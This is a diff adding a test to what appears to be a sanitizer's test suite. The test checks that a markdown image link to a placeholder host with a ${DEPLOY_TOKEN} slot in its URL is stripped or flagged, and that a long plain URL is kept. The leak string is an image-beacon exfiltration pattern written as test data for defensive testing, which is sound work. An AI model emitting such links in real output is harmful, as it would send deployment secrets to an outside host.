@@ -108,3 +108,10 @@ def test_the_short_text_trigger_scan_finds_what_the_regexes_find():
     for text in texts:
         short.seen = 0
         assert short.hits(text) == long.hits(text), text
+
+
+def test_an_image_url_with_a_slot_for_a_secret_is_removed_and_a_long_plain_one_kept():
+    leak = "![status](https://img.example/p.png?c=${DEPLOY_TOKEN})"
+    assert MARKER.format("image_beacon") in clean(leak) or CUES in clean(leak)
+    long_url = "![x](https://e.example/" + "a/" * 15000 + ")"  # bounded scans, no slot: kept
+    assert clean(long_url) == long_url
